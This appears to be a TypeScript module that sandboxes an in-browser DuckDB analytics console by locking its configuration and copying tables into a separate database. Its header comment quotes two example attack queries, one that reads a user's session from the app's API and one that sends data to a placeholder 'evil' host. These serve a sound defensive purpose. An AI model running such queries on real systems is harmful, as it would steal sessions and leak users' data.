import { tableFromIPC, tableToIPC } from "apache-arrow";
import { allTables, type SqlConnection } from "./load.js";
import { metricParamsSql } from "./params.js";
import { createTableSql, replaceFromSql, type TableSpec } from "./tables.js";

/*
 * What keeps analytics SQL inside this device's copy of the data.
 *
 * 1. A locked configuration. SQL in the console is code anyone in the workspace may write (saved
 *    queries are shared), and DuckDB-WASM can otherwise fetch any URL from the page's origin:
 *    `read_text('http://…/api/session')` returns the signed-in person's session, and
 *    `read_csv('https://evil/?' || names)` would send data anywhere. With external access off
 *    DuckDB opens no file and no URL (reads, COPY, ATTACH, EXPORT, LOAD of extensions) except the
 *    exact paths given here; `lock_configuration` then refuses every SET/RESET that would undo it,
 *    for the rest of the database's life.
 * 2. A copy. The console runs in its own database (see web/src/analytics/consoleDb.ts), filled
 *    from the dashboards' database by `copyTables` (+ the metric views: `copyWorkspace` in
 *    metrics.ts), so DELETE/DROP/UPDATE there change only the console's copy.
 */

/**
 * The one path the console's DuckDB may open: a dropped CSV is registered here (as a file
 * buffer), copied into a table and unregistered again. An exact path rather than a directory
 * (`allowed_directories`): DuckDB 1.4 lets `'/dir/./../elsewhere'` through a directory prefix.
 */
export const droppedFilePath = "/dropped/import.csv";

type QueryOnly = { query(sql: string): unknown };

/** The statements that close a database to the outside; `allowedPaths` stay readable. */
export function lockdownStatements(options: { allowedPaths?: readonly string[] } = {}): string[] {
  const paths = (options.allowedPaths ?? []).map((p) => `'${p.replaceAll("'", "''")}'`).join(", ");
  return [
    // No attempt to fetch an extension behind a query's back (and a plain "not loaded" error).
    "SET autoinstall_known_extensions = false",
    "SET autoload_known_extensions = false",
    ...(paths ? [`SET allowed_paths = [${paths}]`] : []),
    "SET enable_external_access = false",
    // Last: from here on no statement on any connection can change a setting.
    "SET lock_configuration = true",
  ];
}

/** Locks the database `conn` belongs to (every connection, for good). Run before any other SQL. */
export async function lockDown(conn: QueryOnly, options: { allowedPaths?: readonly string[] } = {}): Promise<void> {
  for (const statement of lockdownStatements(options)) await conn.query(statement);
}

/** Reads a query's rows as Arrow IPC bytes (stream or file format): how rows leave a database. */
export interface IpcSource {
  queryIpc(sql: string): Promise<Uint8Array> | Uint8Array;
}

/**
 * Fills `target` with a copy of every analytics table of `source` and its metric parameters
 * (`metric_params`). Each table keeps its declared SQL types (cast like a load). `tables`: the
 * specs the source's tables were last loaded with (custom columns included); the built-in ones
 * by default. The metric views are not copied: `copyWorkspace` (metrics.ts) creates them over
 * the copy.
 */
export async function copyTables(
  source: IpcSource,
  target: SqlConnection,
  tables: readonly TableSpec<unknown>[] = allTables,
): Promise<void> {
  for (const spec of tables) {
    const staging = `_load_${spec.name}`;
    const rows = tableFromIPC(await source.queryIpc(`SELECT * FROM "${spec.name}"`));
    if (rows.numRows === 0) {
      await target.query(createTableSql(spec));
      continue;
    }
    await target.query(`DROP TABLE IF EXISTS "${staging}"`);
    await target.insertArrowFromIPCStream(tableToIPC(rows, "stream"), { name: staging, create: true });
    try {
      await target.query(replaceFromSql(spec, staging));
    } finally {
      await target.query(`DROP TABLE IF EXISTS "${staging}"`);
    }
  }
  const params = tableFromIPC(
    await source.queryIpc("SELECT strftime(as_of, '%Y-%m-%d') AS as_of, churn_days FROM metric_params"),
  ).get(0);
  if (params) await target.query(metricParamsSql({ asOf: String(params.as_of), churnDays: Number(params.churn_days) }));
}
